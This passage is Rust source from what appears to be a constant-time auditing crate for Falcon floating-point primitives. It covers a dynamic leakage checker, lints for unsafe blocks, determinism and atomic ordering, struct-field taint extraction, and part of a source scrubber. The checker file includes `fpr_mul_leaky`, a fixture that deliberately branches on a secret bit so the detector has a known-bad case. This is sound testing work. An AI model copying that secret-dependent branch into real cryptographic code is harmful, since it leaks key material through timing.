            },
        ),
        check_primitive(
            "trunc",
            cfg,
            |s| (Secret::new(rand_fpr(s, -60, 8)), Fpr::ZERO),
            |x, _| {
                let _ = x.expose().trunc();
            },
        ),
        check_primitive(
            "expm_p63",
            cfg,
            |s| {
                // x in [0, ln 2), ccs in (0, 1] — the sampler's domain.
                let x = (next(s) as f64 / u64::MAX as f64) * 0.693;
                let ccs = 1.0 - (next(s) as f64 / u64::MAX as f64) * 0.999;
                (Secret::new((Fpr::from_f64(x), Fpr::from_f64(ccs))), (Fpr::ZERO, Fpr::ZERO))
            },
            |xc, _| {
                let (x, ccs) = xc.expose();
                let _ = x.expm_p63(ccs);
            },
        ),
        check_primitive(
            "half/double",
            cfg,
            |s| (Secret::new(rand_fpr(s, -100, 100)), Fpr::ZERO),
            |x, _| {
                let _ = x.expose().half();
                let _ = x.expose().double();
            },
        ),
    ]
}

/// The dynamically checked primitives paired with the `falcon-fpr`
/// functions that implement them — the bridge the site-map superset
/// test walks (see [`crate::sites::covers_primitive`]) to assert the
/// static leakage map subsumes everything this checker exercises.
/// Must stay in sync with [`check_all`].
pub const PRIMITIVE_FNS: [(&str, &[&str]); 14] = [
    ("mul", &["mul", "mul_observed"]),
    ("add", &["add"]),
    ("sub", &["sub"]),
    ("div (secret dividend)", &["div"]),
    ("div (secret divisor)", &["div"]),
    ("sqr", &["sqr"]),
    ("inv", &["inv"]),
    ("sqrt", &["sqrt"]),
    ("scaled", &["scaled"]),
    ("rint", &["rint"]),
    ("floor", &["floor"]),
    ("trunc", &["trunc"]),
    ("expm_p63", &["expm_p63"]),
    ("half/double", &["half", "double"]),
];

/// Site IDs for the leaky fixture (outside the real primitives' range).
pub const LEAKY_SITE_ODD: u32 = 0x9001;

/// A deliberately **leaky** multiplication: branches on the low mantissa
/// bit of the secret operand before delegating to the real (branch-free)
/// `Fpr::mul`. Exists solely so the checker has a known-bad input — it
/// must flag this function, or the harness itself is broken.
pub fn fpr_mul_leaky(x: Secret<Fpr>, y: Fpr) -> Fpr {
    let x = x.expose();
    if x.to_bits() & 1 == 1 {
        ctcheck::site(LEAKY_SITE_ODD);
    }
    x.mul(y)
}

/// Runs the checker against [`fpr_mul_leaky`]; the returned outcome is
/// expected to report `constant_time == false`.
pub fn check_leaky(cfg: &DynConfig) -> Outcome {
    check_primitive(
        "fpr_mul_leaky (detector fixture)",
        cfg,
        |s| (Secret::new(rand_fpr(s, -100, 100)), rand_fpr(s, -100, 100)),
        |x, y| {
            let _ = fpr_mul_leaky(x, y);
        },
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_primitives_are_constant_time() {
        let cfg = DynConfig { iters: 64, ..DynConfig::default() };
        let outcomes = check_all(&cfg);
        assert_eq!(outcomes.len(), 14, "primitive coverage regressed");
        for outcome in outcomes {
            assert!(
                outcome.constant_time,
                "{}: {} (after {} runs)",
                outcome.name, outcome.detail, outcome.runs
            );
            assert!(outcome.sig_len > 0, "{}: empty signature — hooks not armed?", outcome.name);
        }
    }

    #[test]
    fn leaky_fixture_is_flagged() {
        let out = check_leaky(&DynConfig { iters: 64, ..DynConfig::default() });
        assert!(!out.constant_time, "checker failed to flag the leaky fixture");
    }

    #[test]
    fn signatures_have_expected_loop_counts() {
        use falcon_fpr::ctcheck::sites;
        let x = Fpr::from_f64(3.5);
        let y = Fpr::from_f64(-1.25);
        ctcheck::arm();
        let _ = x.div(y);
        let sig = ctcheck::disarm();
        assert_eq!(sig.iter().filter(|&&s| s == sites::DIV_LOOP).count(), 56);
        ctcheck::arm();
        let _ = x.sqrt();
        let sig = ctcheck::disarm();
        assert_eq!(sig.iter().filter(|&&s| s == sites::SQRT_LOOP).count(), 55);
    }

    #[test]
    fn same_seed_is_deterministic() {
        let cfg = DynConfig { iters: 16, seed: 42 };
        let a = check_all(&cfg);
        let b = check_all(&cfg);
        for (x, y) in a.iter().zip(&b) {
            assert_eq!(x.sig_len, y.sig_len);
            assert_eq!(x.constant_time, y.constant_time);
            assert_eq!(x.runs, y.runs);
        }
    }
}
