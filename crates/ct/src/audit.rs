//! The two whole-workspace audit passes that gate the SIMD kernel
//! work: the **unsafe audit** and the **determinism lint**.
//!
//! Both run on the same scrubbed, statement-stitched source as the
//! region lint, need no annotations to fire, and honour the same
//! `// ct: allow(reason)` escape hatch — an allow must carry a reason,
//! so every suppression is a reviewed decision in the diff.
//!
//! **Unsafe audit** (`unsafe-audit`): every `unsafe` token must sit in
//! a module listed in [`crate::rules::UNSAFE_ALLOWED_MODULES`] *and*
//! have a `// SAFETY:` justification within the three lines above it.
//! The workspace currently contains zero `unsafe` blocks; enforcing the
//! rule now means the first SIMD kernel lands against an existing gate
//! instead of introducing one retroactively.
//!
//! **Determinism lint** (`det-*`): the attack pipeline's outputs are
//! bit-reproducible by contract (PR 5's determinism suite asserts it);
//! this pass flags the *sources* of non-determinism statically:
//!
//! * `det-map-iter` — iterating a `HashMap`/`HashSet` (iteration order
//!   is randomised per process) in a result path;
//! * `det-wall-clock` — `Instant`/`SystemTime` reads;
//! * `det-env-read` — `std::env` reads that change behaviour;
//! * `det-thread-id` — thread-identity reads;
//! * `det-float-fold` — `f32`/`f64` `sum`/`fold`/`product` reductions,
//!   whose value depends on association order. The pinned fold kernels
//!   in `dema::cpa`/`dema::exec` carry reviewed allows.
//!
//! **Atomics audit** (`atomics-order`): in the concurrency-bearing
//! modules ([`ATOMICS_AUDITED_PATHS`]: the campaign orchestrator and
//! the serving layer) every atomic access must use an ordering that
//! establishes a happens-before edge — `Ordering::Relaxed` is flagged
//! unless a `// ct: allow(reason)` marks it reviewed. Pinned now, at
//! zero findings, so ROADMAP item 3's multi-host sharding lands
//! against an existing contract.
//!
//! Test code (`tests/`, `benches/`, `examples/`, `#[cfg(test)]`
//! modules) is exempt from the determinism and atomics lints — tests
//! may time things — but **not** from the unsafe audit.

use crate::lint::{collect_rs_files, Rule, Violation};
use crate::rules::UNSAFE_ALLOWED_MODULES;
use crate::scan::{idents, stitch, Directive, Stmt, Tok};
use std::collections::BTreeSet;
use std::path::Path;

/// How far above an `unsafe` statement a `// SAFETY:` comment may sit.
const SAFETY_COMMENT_WINDOW: usize = 3;

/// Runs both audit passes over one file. `rel` must be the
/// workspace-relative path (it selects the unsafe-module allowlist and
/// the test exemption).
pub fn audit_source(rel: &str, src: &str) -> Vec<Violation> {
    let stmts = stitch(src);
    let raw_lines: Vec<&str> = src.lines().collect();
    let mut out = Vec::new();

    let in_test_path = is_test_path(rel);
    let unordered = unordered_names(&stmts);
    let mut pending_allow = false;
    let mut cfg_test_depth: Option<usize> = None;
    let mut depth = 0usize;
    let mut pending_cfg_test = false;

    for stmt in &stmts {
        let code = stmt.code.trim();
        let mut allowed = false;
        for (_, d) in &stmt.directives {
            if let Directive::Allow(_) = d {
                if code.is_empty() {
                    pending_allow = true;
                } else {
                    allowed = true;
                }
            }
        }
        if code.is_empty() {
            continue;
        }
        if pending_allow {
            allowed = true;
            pending_allow = false;
        }

        // Track #[cfg(test)] modules so in-file unit tests are exempt
        // from the determinism rules.
        let toks = idents(code);
        if code.starts_with('#') {
            if toks.iter().any(|t| t.text == "cfg") && toks.iter().any(|t| t.text == "test") {
                pending_cfg_test = true;
            }
            continue;
        }
        let opens = code.matches('{').count();
        let closes = code.matches('}').count();
        if opens > closes && pending_cfg_test && cfg_test_depth.is_none() {
            cfg_test_depth = Some(depth + 1);
        }
        pending_cfg_test = false;
        depth += opens;
        depth = depth.saturating_sub(closes);
        if let Some(d) = cfg_test_depth {
            if depth < d {
                cfg_test_depth = None;
            }
        }
        let in_test = in_test_path || cfg_test_depth.is_some();

        // ---- unsafe audit (applies to test code too) -----------------
        if toks.iter().any(|t| t.text == "unsafe") && !allowed {
            let module_ok = UNSAFE_ALLOWED_MODULES.iter().any(|m| rel.starts_with(m));
            if !module_ok {
                push(
                    &mut out,
                    rel,
                    stmt,
                    Rule::UnsafeAudit,
                    format!(
                        "`unsafe` outside the allowlisted SIMD modules ({})",
                        UNSAFE_ALLOWED_MODULES.join(", ")
                    ),
                );
            } else if !has_safety_comment(&raw_lines, stmt.line) {
                push(
                    &mut out,
                    rel,
                    stmt,
                    Rule::UnsafeAudit,
                    "`unsafe` without a `// SAFETY:` justification in the 3 lines above"
                        .to_string(),
                );
            }
        }

        // ---- determinism + atomics lints -----------------------------
        if in_test || allowed || code.starts_with("use ") || code.starts_with("pub use ") {
            continue;
        }
        check_atomics(rel, stmt, code, &mut out);
        check_determinism(rel, stmt, code, &toks, &unordered, &mut out);
    }

    out
}

fn push(out: &mut Vec<Violation>, rel: &str, stmt: &Stmt, rule: Rule, message: String) {
    out.push(Violation {
        file: rel.to_string(),
        line: stmt.line,
        rule,
        message,
        snippet: stmt.raw.trim().to_string(),
    });
}

/// Whether any of the `SAFETY_COMMENT_WINDOW` raw lines above
/// (1-based) `line` contains a `SAFETY:` comment.
fn has_safety_comment(raw_lines: &[&str], line: usize) -> bool {
    let end = line.saturating_sub(1); // index of the unsafe line itself
    let start = end.saturating_sub(SAFETY_COMMENT_WINDOW);
    raw_lines[start..end].iter().any(|l| {
        l.split_once("//").map(|(_, c)| c.trim_start().starts_with("SAFETY:")).unwrap_or(false)
    })
}

/// Identifiers declared (or typed) as `HashMap`/`HashSet` anywhere in
/// the file: `let mut by: HashMap<…>`, struct fields `hits: HashSet<…>`.
/// File-local and flow-insensitive — good enough to connect a field's
/// declaration to its iteration a hundred lines later.
fn unordered_names(stmts: &[Stmt]) -> BTreeSet<String> {
    let mut names = BTreeSet::new();
    for stmt in stmts {
        let code = stmt.code.trim();
        if !code.contains("HashMap") && !code.contains("HashSet") {
            continue;
        }
        let toks = idents(code);
        let chars: Vec<char> = code.chars().collect();
        for (ti, t) in toks.iter().enumerate() {
            if t.text != "HashMap" && t.text != "HashSet" {
                continue;
            }
            // `name : HashMap` — the token before, with only `:`/space
            // between (also matches `name = HashMap::new()` via `=`).
            if let Some(prev) = ti.checked_sub(1).and_then(|p| toks.get(p)) {
                let between: String = chars.get(prev.end..t.start).unwrap_or(&[]).iter().collect();
                let sep = between.trim();
                if (sep == ":" || sep == "=") && !crate::lint::is_keyword(&prev.text) {
                    names.insert(prev.text.clone());
                }
            }
        }
    }
    names
}

/// Paths whose atomics carry cross-thread/cross-process control flow:
/// the campaign orchestrator's shutdown and progress flags and the
/// serving layer's request counters. `Ordering::Relaxed` there gives
/// no happens-before edge, which is exactly the bug class multi-host
/// sharding would turn from latent into live.
const ATOMICS_AUDITED_PATHS: &[&str] = &["crates/core/src/orch", "crates/serve"];

/// The `atomics-order` check for one statement: `Ordering::Relaxed` in
/// the audited concurrency modules must carry a reviewed
/// `// ct: allow(reason)` (the caller has already applied allows and
/// test exemptions). `core::cmp::Ordering` never matches — the pattern
/// requires the literal `Relaxed` variant.
fn check_atomics(rel: &str, stmt: &Stmt, code: &str, out: &mut Vec<Violation>) {
    if !ATOMICS_AUDITED_PATHS.iter().any(|m| rel.starts_with(m)) {
        return;
    }
    if code.contains("Ordering::Relaxed") {
        push(
            out,
            rel,
            stmt,
            Rule::AtomicsOrder,
            "`Ordering::Relaxed` on a cross-thread atomic (no happens-before edge); use \
             Acquire/Release/SeqCst or allow with a review"
                .to_string(),
        );
    }
}

/// Iteration-revealing suffixes for `det-map-iter`.
const ITER_METHODS: &[&str] = &[
    ".iter()",
    ".iter_mut()",
    ".keys()",
    ".values()",
    ".values_mut()",
    ".drain(",
    ".into_iter()",
    ".into_keys()",
    ".into_values()",
    ".retain(",
];

/// The `det-*` checks for one statement.
fn check_determinism(
    rel: &str,
    stmt: &Stmt,
    code: &str,
    toks: &[Tok],
    unordered: &BTreeSet<String>,
    out: &mut Vec<Violation>,
) {
    // det-map-iter: an unordered container iterated, either directly
    // (`HashMap::new().iter()`) or via a name declared unordered in
    // this file (`self.spans.iter()`), or as a `for … in name` source.
    let mentions_unordered_ty = code.contains("HashMap") || code.contains("HashSet");
    let iterates = ITER_METHODS.iter().any(|m| {
        code.match_indices(m).any(|(p, _)| {
            // The receiver token immediately before the `.`.
            let recv = toks.iter().rev().find(|t| t.end == p);
            recv.map(|t| unordered.contains(&t.text)).unwrap_or(mentions_unordered_ty)
        })
    });
    let for_over_unordered = toks.first().map(|t| t.text == "for").unwrap_or(false)
        && toks.iter().skip_while(|t| t.text != "in").any(|t| unordered.contains(&t.text));
    if iterates || for_over_unordered {
        push(out, rel, stmt, Rule::DetMapIter,
            "iteration over a randomised-order container (HashMap/HashSet) in a result path; use BTreeMap/BTreeSet or sort first".to_string());
    }

    // det-wall-clock: an actual clock read, not a type mention in a
    // signature or struct field. Binaries (`src/bin/`) are exempt —
    // timing their own stages is what report binaries are for; the
    // rule targets library code.
    if !rel.contains("/src/bin/")
        && (code.contains("Instant::now")
            || code.contains("SystemTime::now")
            || code.contains(".elapsed("))
    {
        push(
            out,
            rel,
            stmt,
            Rule::DetWallClock,
            "wall-clock read (`Instant`/`SystemTime`) in library code".to_string(),
        );
    }

    // det-env-read.
    if code.contains("env::var")
        || code.contains("env::vars")
        || toks.iter().any(|t| t.text == "var_os")
    {
        push(
            out,
            rel,
            stmt,
            Rule::DetEnvRead,
            "environment read in library code (behaviour varies per host)".to_string(),
        );
    }

    // det-thread-id.
    if code.contains("thread::current") || toks.iter().any(|t| t.text == "ThreadId") {
        push(out, rel, stmt, Rule::DetThreadId, "thread-identity read in library code".to_string());
    }

    // det-float-fold: non-associative float reductions.
    // `.sum(`/`.sum::` are reduction calls; a bare `.sum` would also
    // match struct-field reads like `self.sum.load(..)`.
    let reduces =
        [".sum(", ".sum::", ".product(", ".product::", ".fold("].iter().any(|m| code.contains(m));
    let floaty = toks.iter().any(|t| t.text == "f32" || t.text == "f64")
        || code.contains("0.0")
        || code.contains("1.0");
    if reduces && floaty {
        push(out, rel, stmt, Rule::DetFloatFold,
            "float reduction whose value depends on association order; pin the fold order or allow with a review".to_string());
    }
}

/// Whether a workspace-relative path is test/bench/example code.
fn is_test_path(rel: &str) -> bool {
    let parts: Vec<&str> = rel.split('/').collect();
    parts.iter().any(|p| *p == "tests" || *p == "benches" || *p == "examples")
        || rel.ends_with("tests.rs")
}

/// Runs both audit passes over every `.rs` file under `root`.
pub fn audit_tree(root: &Path) -> std::io::Result<Vec<Violation>> {
    let mut files = Vec::new();
    collect_rs_files(root, root, &mut files)?;
    files.sort();
    let mut out = Vec::new();
    for rel in &files {
        let src = std::fs::read_to_string(root.join(rel))?;
        out.extend(audit_source(rel, &src));
    }
    out.sort_by(|a, b| (&a.file, a.line, a.rule).cmp(&(&b.file, b.line, b.rule)));
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unsafe_outside_allowlist_is_flagged() {
        let v =
            audit_source("crates/core/src/pearson.rs", "fn f() {\n    let x = unsafe { *p };\n}\n");
        assert_eq!(v.len(), 1, "{v:?}");
        assert_eq!(v[0].rule, Rule::UnsafeAudit);
        assert!(v[0].message.contains("outside the allowlisted"));
    }

    #[test]
    fn unsafe_in_allowed_module_needs_safety_comment() {
        let no_comment = "fn f() {\n    let x = unsafe { *p };\n}\n";
        let v = audit_source("crates/fpr/src/simd.rs", no_comment);
        assert_eq!(v.len(), 1, "{v:?}");
        assert!(v[0].message.contains("SAFETY"));

        let with_comment =
            "fn f() {\n    // SAFETY: p is in-bounds by construction above.\n    let x = unsafe { *p };\n}\n";
        let v = audit_source("crates/fpr/src/simd.rs", with_comment);
        assert!(v.is_empty(), "{v:?}");
    }

    #[test]
    fn unsafe_in_strings_and_comments_is_inert() {
        let v = audit_source(
            "crates/x/src/a.rs",
            "fn f() {\n    let s = \"unsafe\"; // unsafe in prose\n}\n",
        );
        assert!(v.is_empty(), "{v:?}");
    }

    #[test]
    fn map_iteration_is_flagged_via_declaration() {
        let src = "\
use std::collections::HashMap;
pub struct R { spans: HashMap<String, u64> }
impl R {
    pub fn dump(&self) -> Vec<u64> {
        self.spans.values().copied().collect()
    }
}
";
        let v = audit_source("crates/x/src/r.rs", src);
        assert_eq!(v.len(), 1, "{v:?}");
        assert_eq!(v[0].rule, Rule::DetMapIter);
        assert!(v[0].snippet.contains("values"));
    }

    #[test]
    fn for_loop_over_unordered_is_flagged() {
        let src = "\
fn g() {
    let mut seen: HashSet<u32> = HashSet::new();
    for x in &seen {
        emit(x);
    }
}
";
        let v = audit_source("crates/x/src/g.rs", src);
        assert!(v.iter().any(|x| x.rule == Rule::DetMapIter), "{v:?}");
    }

    #[test]
    fn wall_clock_env_and_thread_reads_are_flagged() {
        let src = "\
fn t() {
    let t0 = Instant::now();
    let v = std::env::var(\"X\");
    let id = std::thread::current().id();
}
";
        let v = audit_source("crates/x/src/t.rs", src);
        let rules: Vec<Rule> = v.iter().map(|x| x.rule).collect();
        assert!(rules.contains(&Rule::DetWallClock), "{v:?}");
        assert!(rules.contains(&Rule::DetEnvRead), "{v:?}");
        assert!(rules.contains(&Rule::DetThreadId), "{v:?}");
    }

    #[test]
    fn float_fold_is_flagged_and_allow_suppresses() {
        let bare = "fn s(xs: &[f64]) -> f64 {\n    xs.iter().fold(0.0, |a, b| a + b)\n}\n";
        let v = audit_source("crates/x/src/s.rs", bare);
        assert!(v.iter().any(|x| x.rule == Rule::DetFloatFold), "{v:?}");

        let allowed = "fn s(xs: &[f64]) -> f64 {\n    // ct: allow(pinned fold kernel: sequential order is the spec)\n    xs.iter().fold(0.0, |a, b| a + b)\n}\n";
        let v = audit_source("crates/x/src/s.rs", allowed);
        assert!(v.is_empty(), "{v:?}");
    }

    #[test]
    fn bin_paths_may_read_the_clock_but_libraries_may_not() {
        let src = "fn main() {\n    let t0 = Instant::now();\n    let _ = t0.elapsed();\n}\n";
        let v = audit_source("crates/bench/src/bin/table2.rs", src);
        assert!(v.is_empty(), "{v:?}");
        let v = audit_source("crates/bench/src/report.rs", src);
        assert!(v.iter().any(|x| x.rule == Rule::DetWallClock), "{v:?}");
    }

    #[test]
    fn test_code_is_exempt_from_determinism_but_not_unsafe() {
        let src = "\
#[cfg(test)]
mod tests {
    #[test]
    fn timing() {
        let t = Instant::now();
        let x = unsafe { *p };
    }
}
";
        let v = audit_source("crates/x/src/lib.rs", src);
        let rules: Vec<Rule> = v.iter().map(|x| x.rule).collect();
        assert!(!rules.contains(&Rule::DetWallClock), "{v:?}");
        assert!(rules.contains(&Rule::UnsafeAudit), "{v:?}");
    }

    #[test]
    fn use_statements_do_not_fire_wall_clock() {
        let v = audit_source("crates/x/src/u.rs", "use std::time::Instant;\n");
        assert!(v.is_empty(), "{v:?}");
    }

    #[test]
    fn relaxed_atomics_in_audited_modules_are_flagged() {
        let src = "fn stop(&self) {\n    self.done.store(true, Ordering::Relaxed);\n}\n";
        let v = audit_source("crates/core/src/orch/daemon.rs", src);
        assert_eq!(v.len(), 1, "{v:?}");
        assert_eq!(v[0].rule, Rule::AtomicsOrder);
        let v = audit_source("crates/serve/src/server.rs", src);
        assert!(v.iter().any(|x| x.rule == Rule::AtomicsOrder), "{v:?}");
    }

    #[test]
    fn atomics_rule_is_scoped_allowable_and_ignores_cmp_ordering() {
        // Outside the audited modules: not flagged.
        let src = "fn stop(&self) {\n    self.done.store(true, Ordering::Relaxed);\n}\n";
        let v = audit_source("crates/obs/src/registry.rs", src);
        assert!(v.is_empty(), "{v:?}");
        // SeqCst and `core::cmp::Ordering` comparisons: not flagged.
        let src = "fn f(&self) {\n    self.n.fetch_add(1, Ordering::SeqCst);\n    if ord == Ordering::Less {\n        g();\n    }\n}\n";
        let v = audit_source("crates/serve/src/server.rs", src);
        assert!(v.is_empty(), "{v:?}");
        // A reviewed allow suppresses.
        let src = "fn peek(&self) -> u64 {\n    // ct: allow(monotonic counter, no ordering contract)\n    self.n.load(Ordering::Relaxed)\n}\n";
        let v = audit_source("crates/core/src/orch/daemon.rs", src);
        assert!(v.is_empty(), "{v:?}");
    }
}
