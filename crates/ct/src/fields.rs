//! Struct-definition extraction for field-sensitive taint seeding.
//!
//! The interprocedural pass seeds taint from parameter *types*: any
//! parameter whose type mentions a secret seed type is fully tainted.
//! That is field-insensitive — `SigningKey` carries the public `logn`
//! and `h` fields alongside the NTRU secrets, so every accessor of a
//! public field used to drag whole call chains into the taint set.
//!
//! This module extracts struct definitions (name → ordered field list)
//! from the same scrubbed statement stream the call-graph walker uses,
//! together with `// ct: public(field, …)` annotations on the
//! definition. A struct that carries such an annotation opts into
//! field-sensitive seeding: parameters of that type are keyed per
//! `(param, field-path)` — the secret fields taint, the declared public
//! projections (`sk.logn`, `sk.h`, and the same-named accessors) do
//! not. Structs without an annotation keep the conservative whole-value
//! seeding, so an unannotated secret container can never under-taint.

use crate::scan::{idents, stitch, Directive};
use std::collections::BTreeMap;

/// One struct definition with its taint-relevant field classification.
#[derive(Debug, Clone, Default)]
pub struct StructInfo {
    /// Type name.
    pub name: String,
    /// Defining file (workspace-relative).
    pub file: String,
    /// 1-based line of the definition.
    pub line: usize,
    /// Declared field names, in declaration order.
    pub fields: Vec<String>,
    /// Fields declared public via `// ct: public(...)` on the
    /// definition. Empty = the struct did not opt into field
    /// sensitivity and is seeded whole.
    pub public_fields: Vec<String>,
}

impl StructInfo {
    /// Whether the struct opted into field-sensitive seeding.
    pub fn field_sensitive(&self) -> bool {
        !self.public_fields.is_empty()
    }
}

/// Workspace-wide struct table, keyed by type name. A name defined more
/// than once (test fixtures shadowing a production type) is dropped
/// from the table — ambiguous field layouts must not steer seeding.
#[derive(Debug, Default)]
pub struct FieldMap {
    by_name: BTreeMap<String, StructInfo>,
    ambiguous: Vec<String>,
}

impl FieldMap {
    /// Empty map.
    pub fn new() -> FieldMap {
        FieldMap::default()
    }

    /// Extracts every struct definition from one file's source text.
    pub fn add_file(&mut self, file: &str, src: &str) {
        // Depth of the currently open struct body, if any: the opening
        // statement ends in `{` at depth 0, fields live at depth 1.
        let mut open: Option<(StructInfo, i32)> = None;
        let mut depth: i32 = 0;
        for stmt in stitch(src) {
            if let Some((info, _)) = open.as_mut() {
                for (_, d) in &stmt.directives {
                    if let Directive::Public(names) = d {
                        info.public_fields.extend(names.iter().cloned());
                    }
                }
                for name in field_names(&stmt.code) {
                    info.fields.push(name);
                }
            }
            for c in stmt.code.chars() {
                match c {
                    '{' => depth += 1,
                    '}' => {
                        depth -= 1;
                        if let Some((_, body_depth)) = open.as_ref() {
                            if depth < *body_depth {
                                let (info, _) = open.take().expect("checked");
                                self.insert(info);
                            }
                        }
                    }
                    _ => {}
                }
            }
            if open.is_none() {
                if let Some(name) = struct_open(&stmt.code) {
                    let mut info = StructInfo {
                        name,
                        file: file.to_string(),
                        line: stmt.line,
                        ..StructInfo::default()
                    };
                    for (_, d) in &stmt.directives {
                        if let Directive::Public(names) = d {
                            info.public_fields.extend(names.iter().cloned());
                        }
                    }
                    open = Some((info, depth));
                }
            }
        }
    }

    fn insert(&mut self, info: StructInfo) {
        if self.ambiguous.contains(&info.name) {
            return;
        }
        if self.by_name.remove(&info.name).is_some() {
            self.ambiguous.push(info.name);
            return;
        }
        self.by_name.insert(info.name.clone(), info);
    }

    /// Looks up a struct by type name (unambiguous definitions only).
    pub fn get(&self, name: &str) -> Option<&StructInfo> {
        self.by_name.get(name)
    }

    /// Number of extracted (unambiguous) struct definitions.
    pub fn len(&self) -> usize {
        self.by_name.len()
    }

    /// Whether no definitions were extracted.
    pub fn is_empty(&self) -> bool {
        self.by_name.is_empty()
    }

    /// All extracted definitions, name-ordered. (Deliberately not
    /// named `iter`: the propagation pass binds workspace-unique bare
    /// method names, and `iter` would soak up every tainted
    /// `.iter()` call in the tree.)
    pub fn defs(&self) -> impl Iterator<Item = &StructInfo> {
        self.by_name.values()
    }

    /// The first field-sensitive struct whose name appears in a type
    /// string (`&SigningKey`, `Option<&SigningKey>`, …).
    pub fn sensitive_in_type(&self, ty: &str) -> Option<&StructInfo> {
        idents(ty).iter().find_map(|t| self.by_name.get(&t.text).filter(|s| s.field_sensitive()))
    }
}

/// `pub struct Name {` (braced definition at item position) → `Name`.
/// Tuple and unit structs have no named fields and are skipped.
fn struct_open(code: &str) -> Option<String> {
    if !code.trim_end().ends_with('{') {
        return None;
    }
    let toks = idents(code);
    let pos = toks.iter().position(|t| t.text == "struct")?;
    // `struct` must be in item position: first token, or preceded only
    // by visibility/modifier tokens.
    if toks[..pos].iter().any(|t| !matches!(t.text.as_str(), "pub" | "crate" | "super" | "in")) {
        return None;
    }
    let name = toks.get(pos + 1)?;
    let chars: Vec<char> = code.chars().collect();
    // A `(` right after the name would be a tuple struct.
    let mut j = name.end;
    while let Some(&c) = chars.get(j) {
        if c == '(' {
            return None;
        }
        if c == '{' || c == '<' {
            break;
        }
        j += 1;
    }
    Some(name.text.clone())
}

/// Field names declared by one in-body statement: each top-level
/// comma-separated segment of the form `[pub(...)] name: Type`.
fn field_names(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut depth = 0i32;
    let mut seg_start = 0usize;
    let chars: Vec<char> = code.chars().collect();
    let mut segments = Vec::new();
    for (i, &c) in chars.iter().enumerate() {
        match c {
            '(' | '[' | '<' => depth += 1,
            ')' | ']' | '>' => depth -= 1,
            ',' if depth <= 0 => {
                segments.push(&code[seg_start..i]);
                seg_start = i + 1;
            }
            _ => {}
        }
    }
    segments.push(&code[seg_start..]);
    for seg in segments {
        let toks = idents(seg);
        // Skip visibility tokens; the field name is the first plain
        // ident directly followed by a single `:`.
        let Some(first) =
            toks.iter().find(|t| !matches!(t.text.as_str(), "pub" | "crate" | "super" | "in"))
        else {
            continue;
        };
        let seg_chars: Vec<char> = seg.chars().collect();
        let mut j = first.end;
        while seg_chars.get(j) == Some(&' ') {
            j += 1;
        }
        if seg_chars.get(j) == Some(&':') && seg_chars.get(j + 1) != Some(&':') {
            out.push(first.text.clone());
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const SRC: &str = r#"
/// A key. // not a directive
pub struct Key {
    // ct: public(size, tag)
    size: u32,
    pub(crate) secret_poly: Vec<i16>,
    tag: [u8; 4],
}

struct Plain {
    a: u64,
    b: u64,
}

pub struct Tuple(u32, u32);

pub struct Generic<T: Clone> {
    inner: T,
}
"#;

    #[test]
    fn extracts_fields_and_public_annotations() {
        let mut fm = FieldMap::new();
        fm.add_file("k.rs", SRC);
        let key = fm.get("Key").expect("Key extracted");
        assert_eq!(key.fields, vec!["size", "secret_poly", "tag"]);
        assert_eq!(key.public_fields, vec!["size", "tag"]);
        assert!(key.field_sensitive());
        let plain = fm.get("Plain").expect("Plain extracted");
        assert_eq!(plain.fields, vec!["a", "b"]);
        assert!(!plain.field_sensitive());
        assert!(fm.get("Tuple").is_none(), "tuple structs have no named fields");
        assert_eq!(fm.get("Generic").expect("generic").fields, vec!["inner"]);
    }

    #[test]
    fn sensitive_lookup_sees_through_references() {
        let mut fm = FieldMap::new();
        fm.add_file("k.rs", SRC);
        assert_eq!(fm.sensitive_in_type("&Key").map(|s| s.name.as_str()), Some("Key"));
        assert!(fm.sensitive_in_type("&Plain").is_none(), "unannotated structs stay whole");
        assert!(fm.sensitive_in_type("u64").is_none());
    }

    #[test]
    fn duplicate_definitions_are_dropped() {
        let mut fm = FieldMap::new();
        fm.add_file("a.rs", "pub struct D {\n // ct: public(x)\n x: u32,\n}\n");
        fm.add_file("b.rs", "pub struct D {\n y: u32,\n}\n");
        assert!(fm.get("D").is_none(), "ambiguous layouts must not steer seeding");
    }
}
