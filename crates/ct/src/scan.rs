//! Lexical preprocessing for the lint: comment/literal stripping,
//! identifier tokenisation, and `ct:` directive parsing.
//!
//! The lint works line by line on *scrubbed* source: string and char
//! literal contents are blanked (so operators and identifiers inside
//! them never reach the rule checks), comments are separated out (so
//! directives can be read from them), and lifetimes are removed (so
//! `'a` does not tokenise as the identifier `a`). Block comments nest,
//! as they do in Rust, and their state persists across lines.

/// Strips comments and literals from Rust source, one line at a time.
#[derive(Debug, Default)]
pub struct Scrubber {
    /// Nesting depth of `/* */` comments carried across lines.
    block_depth: usize,
    /// String literal left open at the end of the previous line, if
    /// any; multi-line literals (test fixtures especially) must not
    /// leak their contents into the code stream.
    open_str: StrTail,
}

/// The terminator a multi-line string literal is waiting for.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
enum StrTail {
    #[default]
    None,
    /// Inside `"…"`: scanning for an unescaped `"`.
    Plain,
    /// Inside `r"…"`/`r#"…"#`: scanning for `"` followed by n `#`s.
    Raw(usize),
}

impl Scrubber {
    /// A scrubber at the start of a file.
    pub fn new() -> Scrubber {
        Scrubber::default()
    }

    /// Splits one source line into (code, line-comment text).
    ///
    /// The code part has string/char contents blanked and block-comment
    /// spans removed; the comment part is everything after `//` (empty
    /// when there is none). Doc comments (`///`, `//!`) yield comment
    /// text starting with `/` or `!`, which [`directive`] ignores, so
    /// directive examples inside documentation are inert.
    pub fn scrub(&mut self, raw: &str) -> (String, String) {
        let chars: Vec<char> = raw.chars().collect();
        let mut code = String::new();
        let mut comment = String::new();
        let mut i = 0;
        while i < chars.len() {
            match self.open_str {
                StrTail::Plain => {
                    match chars[i] {
                        '\\' => i += 2,
                        '"' => {
                            self.open_str = StrTail::None;
                            i += 1;
                        }
                        _ => i += 1,
                    }
                    continue;
                }
                StrTail::Raw(hashes) => {
                    if chars[i] == '"'
                        && chars[i + 1..].iter().take(hashes).filter(|&&c| c == '#').count()
                            == hashes
                    {
                        self.open_str = StrTail::None;
                        i += 1 + hashes;
                    } else {
                        i += 1;
                    }
                    continue;
                }
                StrTail::None => {}
            }
            if self.block_depth > 0 {
                if chars[i] == '*' && chars.get(i + 1) == Some(&'/') {
                    self.block_depth -= 1;
                    i += 2;
                } else if chars[i] == '/' && chars.get(i + 1) == Some(&'*') {
                    self.block_depth += 1;
                    i += 2;
